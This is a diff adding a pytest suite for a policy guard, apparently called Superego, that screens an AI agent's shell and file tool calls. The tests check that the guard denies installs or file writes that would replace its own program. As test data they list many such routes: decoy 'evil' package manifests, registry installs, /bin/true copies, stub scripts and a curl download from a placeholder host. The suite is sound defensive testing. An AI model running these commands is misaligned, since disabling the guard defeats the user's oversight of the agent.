@@ -1,0 +1,290 @@
+"""No off-switch through installs that replace Superego's own program: the agent's hooks run
+``superego-mcp`` by name, so an install whose program is called so (read from a local
+directory's manifest, or a registry name / Go path), or a write of a file so named, is
+denied by the bundled policy (deny-replace-superego-program, deny-remove-superego); a
+manifest that cannot be read is asked about; ordinary installs stay allowed. Real files in a
+temp project, judged by the bundled policy."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from superego_mcp.model import Decision, ToolCall
+from superego_mcp.policy.engine import Policy
+
+PYPROJECT = (
+    '[project]\nname = "evil"\nversion = "1"\n\n[project.scripts]\nsuperego-mcp = "evil:main"\n'
+)
+POETRY = '[tool.poetry]\nname = "evil"\n\n[tool.poetry.scripts]\n"superego-mcp" = "evil:main"\n'
+GUI = '[project]\nname = "evil"\n[project.gui-scripts]\nsuperego_mcp = "evil:main"\n'
+SETUP_CFG = (
+    "[metadata]\nname = evil\n\n[options.entry_points]\nconsole_scripts =\n"
+    "    tool = evil:other\n    superego-mcp = evil:main\n"
+)
+SETUP_PY = (
+    "from setuptools import setup\n\nsetup(\n    name='evil',\n"
+    "    entry_points={'console_scripts': ['superego-mcp=evil:main']},\n)\n"
+)
+PACKAGE_BIN = '{\n  "name": "evil",\n  "bin": {\n    "superego-mcp": "x.js"\n  }\n}\n'
+PACKAGE_NAME = '{\n  "name": "@me/superego-mcp",\n  "bin": "x.js"\n}\n'
+CARGO_BIN = '[package]\nname = "evil"\n\n[[bin]]\nname = "superego-mcp"\npath = "src/x.rs"\n'
+CARGO_NAME = '[package]\nname = "superego-mcp"\nversion = "0.1.0"\n'
+GO_MOD = "module example.com/tools\n\ngo 1.22\n"
+GO_ROOT = "module example.com/superego-mcp/v2\n\ngo 1.22\n"
+
+# (files in the project, command, the FILE:LINE the reason names)
+LOCAL = [
+    ({"evil/pyproject.toml": PYPROJECT}, "pip install --user ./evil", "evil/pyproject.toml:6"),
+    ({"evil/pyproject.toml": PYPROJECT}, "pip install -e ./evil", "evil/pyproject.toml:6"),
+    ({"evil/pyproject.toml": PYPROJECT}, "pip install -e evil", "evil/pyproject.toml:6"),
+    ({"evil/pyproject.toml": PYPROJECT}, "pip install './evil[dev]'", "evil/pyproject.toml:6"),
+    ({"evil/pyproject.toml": PYPROJECT}, "python3 -m pip install ./evil", "evil/pyproject.toml:6"),
+    ({"evil/pyproject.toml": PYPROJECT}, "pipx install ./evil", "evil/pyproject.toml:6"),
+    ({"evil/pyproject.toml": PYPROJECT}, "pipx install --editable ./evil", "evil/pyproject.toml:6"),
+    ({"evil/pyproject.toml": PYPROJECT}, "uv tool install ./evil", "evil/pyproject.toml:6"),
+    (
+        {"evil/pyproject.toml": PYPROJECT},
+        "uv tool install --from ./evil x",
+        "evil/pyproject.toml:6",
+    ),
+    ({"evil/pyproject.toml": PYPROJECT}, "uv pip install --system ./evil", "evil/pyproject.toml:6"),
+    ({"evil/pyproject.toml": PYPROJECT}, "cd evil && uv sync", "evil/pyproject.toml:6"),
+    ({"evil/pyproject.toml": POETRY}, "cd evil && poetry install", "evil/pyproject.toml:5"),
+    ({"evil/pyproject.toml": GUI}, "pip install ./evil", "evil/pyproject.toml:4"),
+    ({"evil/setup.cfg": SETUP_CFG}, "pip install --user ./evil", "evil/setup.cfg:7"),
+    ({"evil/setup.py": SETUP_PY}, "pip install --user ./evil", "evil/setup.py:5"),
+    ({"evil/package.json": PACKAGE_BIN}, "npm install -g ./evil", "evil/package.json:4"),
+    ({"evil/package.json": PACKAGE_BIN}, "npm i --global file:./evil", "evil/package.json:4"),
+    ({"evil/package.json": PACKAGE_BIN}, "cd evil && npm link", "evil/package.json:4"),
+    ({"evil/package.json": PACKAGE_BIN}, "npm link ./evil", "evil/package.json:4"),
+    ({"evil/package.json": PACKAGE_NAME}, "pnpm add -g ./evil", "evil/package.json:2"),
+    ({"evil/package.json": PACKAGE_BIN}, "yarn global add file:./evil", "evil/package.json:4"),
+    ({"evil/package.json": PACKAGE_BIN}, "bun add -g ./evil", "evil/package.json:4"),
+    ({"evil/Cargo.toml": CARGO_BIN}, "cargo install --path ./evil", "evil/Cargo.toml:5"),
+    (
+        {"evil/Cargo.toml": CARGO_NAME, "evil/src/main.rs": "fn main() {}\n"},
+        "cargo install --path evil --locked",
+        "evil/Cargo.toml:2",
+    ),
+    (
+        {"evil/Cargo.toml": '[package]\nname = "x"\n', "evil/src/bin/superego-mcp.rs": ""},
+        "cargo install --path evil",
+        "evil/src/bin/superego-mcp.rs",
+    ),
+    ({"go.mod": GO_ROOT, "main.go": "package main\n"}, "go install .", "go.mod:1"),
+    ({"go.mod": GO_ROOT, "main.go": "package main\n"}, "go install", "go.mod:1"),
+    (
+        {"go.mod": GO_MOD, "cmd/superego-mcp/main.go": "package main\n"},
+        "go install ./...",
+        "cmd/superego-mcp",
+    ),
+]
+# What each family installs by a registry name or a Go path: the name is the program's.
+REGISTRY = [
+    "cargo install superego-mcp",
+    "cargo install --force superego-mcp --version 0.1.0",
+    "gem install superego-mcp",
+    "go install example.com/x/superego-mcp@latest",
+    "go install ./cmd/superego-mcp",
+    "composer global require x/superego-mcp",
+    "dart pub global activate superego_mcp",
+    "mix escript.install hex superego_mcp",
+    "dotnet tool install -g superego-mcp",
+    "cabal install superego-mcp",
+    "stack install superego-mcp",
+    "opam install superego-mcp",
+    "luarocks install superego-mcp",
+    "cpanm superego-mcp",
+    "deno install -g npm:superego-mcp",
+    "micromamba install superego-mcp",
+    "flox install superego-mcp",
+    "pipenv install superego-mcp",
+]
+# Other ways to put a program under its name.
+WRITES = [
+    "cp /bin/true ~/.local/bin/superego-mcp",
+    "ln -sf /bin/true ~/.local/bin/superego-mcp",
+    "install -m755 /bin/true /usr/local/bin/superego-mcp",
+    "mv ./fake /usr/local/bin/superego-mcp",
+    "printf '#!/bin/sh\\nexit 0\\n' > ~/.local/bin/superego-mcp",
+    "tee ~/.local/bin/superego-mcp < fake",
+    "curl -fsSLo ~/.local/bin/superego-mcp https://x.example/a",
+    "go build -o ~/go/bin/superego-mcp ./cmd/x",
+    "cp fake bin/superego-mcp",
+]
+# Ordinary installs in the same project shapes: not Superego's name, still allowed.
+EVERYDAY = [
+    ({"pyproject.toml": PYPROJECT.replace("superego-mcp", "evil")}, "pip install -e ."),
+    ({"pyproject.toml": PYPROJECT.replace("superego-mcp", "evil")}, "uv sync"),
+    ({"setup.py": SETUP_PY.replace("superego-mcp", "evil")}, "pip install -e ."),
+    ({"package.json": PACKAGE_BIN.replace("superego-mcp", "evil")}, "npm link"),
+    ({"Cargo.toml": CARGO_BIN.replace("superego-mcp", "evil")}, "cargo install --path ."),
+    ({"go.mod": GO_MOD, "cmd/tool/main.go": "package main\n"}, "go install ./..."),
+    ({}, "pip install -e ."),
+    ({}, "pip install ./not-there"),
+    ({}, "git clone https://github.com/x/y && cd y && pip install -e ."),
+    ({}, "cargo install ripgrep"),
+    ({}, "go install golang.org/x/tools/gopls@latest"),
+    ({}, "npm install -g pnpm"),
+]
+
+
+def judge(policy: Policy, project: Path, command: str, home: Path) -> Decision:
+    call = ToolCall("Bash", {"command": command}, str(project), project=str(project))
+    return policy.evaluate(call, home=str(home))
+
+
+def make(project: Path, files: dict[str, str]) -> None:
+    for name, text in files.items():
+        path = project / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+
+
+@pytest.fixture
+def place(tmp_path: Path) -> tuple[Path, Path]:
+    home, project = tmp_path / "home", tmp_path / "proj"
+    home.mkdir()
+    project.mkdir()
+    return home, project
+
+
+@pytest.mark.parametrize(("files", "command", "where"), LOCAL)
+def test_an_install_whose_manifest_names_superegos_program_is_denied(
+    bundled: Policy,
+    place: tuple[Path, Path],
+    files: dict[str, str],
+    command: str,
+    where: str,
+) -> None:
+    home, project = place
+    make(project, files)
+    d = judge(bundled, project, command, home)
+    assert (d.action, d.rule_id) == ("deny", "deny-replace-superego-program"), (command, d)
+    assert f"{project}/{where}" in d.reason, d.reason
+
+
+@pytest.mark.parametrize("command", REGISTRY)
+def test_an_install_of_its_name_from_any_registry_is_denied(
+    bundled: Policy, place: tuple[Path, Path], command: str
+) -> None:
+    home, project = place
+    d = judge(bundled, project, command, home)
+    assert (d.action, d.rule_id) == ("deny", "deny-remove-superego"), (command, d.rule_id)
+
+
+@pytest.mark.parametrize("command", WRITES)
+def test_a_file_written_under_its_programs_name_is_denied(
+    bundled: Policy, place: tuple[Path, Path], command: str
+) -> None:
+    home, project = place
+    d = judge(bundled, project, command, home)
+    assert (d.action, d.rule_id) == ("deny", "deny-replace-superego-program"), (command, d)
+    assert "superego-mcp" in d.reason
+
+
+@pytest.mark.parametrize("tool", ["Write", "mcp__fs__write_file"])
+def test_a_file_tool_writing_its_programs_name_is_denied(
+    bundled: Policy, place: tuple[Path, Path], tool: str
+) -> None:
+    home, _ = place
+    target = f"{home}/.local/bin/superego-mcp"
+    key = "file_path" if tool == "Write" else "path"
+    call = ToolCall(tool, {key: target, "content": "#!/bin/sh\nexit 0\n"}, str(home))
+    d = bundled.evaluate(call, home=str(home))
+    assert (d.action, d.rule_id) == ("deny", "deny-replace-superego-program"), d
+    assert target in d.reason
+
+
+@pytest.mark.parametrize(("files", "command"), EVERYDAY)
+def test_ordinary_installs_stay_allowed(
+    bundled: Policy, place: tuple[Path, Path], files: dict[str, str], command: str
+) -> None:
+    home, project = place
+    make(project, files)
+    d = judge(bundled, project, command, home)
+    assert d.action == "allow", (command, d.rule_id, d.reason)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "printf '[project.scripts]\\nsuperego-mcp = \"e:m\"\\n' > evil/pyproject.toml"
+        " && pip install ./evil",
+        "mkdir -p e2 && cp evil/pyproject.toml e2/ && pip install --user ./e2",
+        "cp -r evil e3 && pipx install ./e3",
+        "git clone ./evil e4 && pip install ./e4",
+    ],
+)
+def test_a_manifest_the_same_line_writes_is_not_read_and_is_asked_about(
+    bundled: Policy, place: tuple[Path, Path], command: str
+) -> None:
+    home, project = place
+    make(project, {"evil/pyproject.toml": PYPROJECT.replace("superego-mcp", "evil")})
+    d = judge(bundled, project, command, home)
+    assert d.action in ("ask", "deny"), (command, d.rule_id)
+    assert d.rule_id == "ask-script-written-then-run", d.rule_id
+
+
+@pytest.mark.parametrize(
+    ("files", "command"),
+    [
+        ({"evil/pyproject.toml": "[project\nname ="}, "pip install --user ./evil"),
+        ({"evil/pyproject.toml": "x" * 300_000}, "pipx install ./evil"),
+        ({"evil/setup.cfg": "[options.entry_points\nx"}, "pip install ./evil"),
+        ({}, "uv sync"),
+    ],
+)
+def test_a_manifest_that_cannot_be_read_is_asked_about(
+    bundled: Policy, place: tuple[Path, Path], files: dict[str, str], command: str
+) -> None:
+    home, project = place
+    if command == "uv sync":
+        (project / "pyproject.toml").write_bytes(b"[project]\nname = '\xff'\n")
+    else:
+        make(project, files)
+    d = judge(bundled, project, command, home)
+    assert (d.action, d.rule_id) == ("ask", "ask-unread-install-manifest"), (command, d.rule_id)
+
+
+def test_a_go_tree_too_large_to_list_is_asked_about(
+    bundled: Policy, place: tuple[Path, Path]
+) -> None:
+    from superego_mcp.shell import installs
+
+    home, project = place
+    make(project, {"go.mod": GO_MOD})
+    for i in range(installs.GO_MAX_DIRS + 1):
+        (project / f"d{i}").mkdir()
+    d = judge(bundled, project, "go install ./...", home)
+    assert (d.action, d.rule_id) == ("ask", "ask-unread-install-manifest"), d.rule_id
+
+
+def test_a_checkout_of_superego_syncs_itself_but_installs_nowhere_else(
+    bundled: Policy, place: tuple[Path, Path]
+) -> None:
+    """In Superego's own checkout `uv sync` installs its program into the project's
+    virtualenv from the code the agent edits anyway: allowed. Installing it anywhere else
+    (pip's interpreter, --user, pipx) would put that code where the person's guard is."""
+    home, project = place
+    own = (
+        '[project]\nname = "superego-mcp"\n\n'
+        '[project.scripts]\nsuperego-mcp = "superego_mcp.cli:main"\n'
+    )
+    make(project, {"pyproject.toml": own})
+    assert judge(bundled, project, "uv sync --frozen", home).action == "allow"
+    assert judge(bundled, project, "poetry install", home).action == "allow"
+    for command in (
+        "pip install -e .",
+        "pip install --user .",
+        "pipx install .",
+        "uv tool install .",
+    ):
+        d = judge(bundled, project, command, home)
+        assert (d.action, d.rule_id) == ("deny", "deny-replace-superego-program"), command
+    # the same manifest in a directory below the project is not the project's own
+    make(project, {"sub/pyproject.toml": own})
+    d = judge(bundled, project, "cd sub && uv sync", home)
+    assert (d.action, d.rule_id) == ("deny", "deny-replace-superego-program")
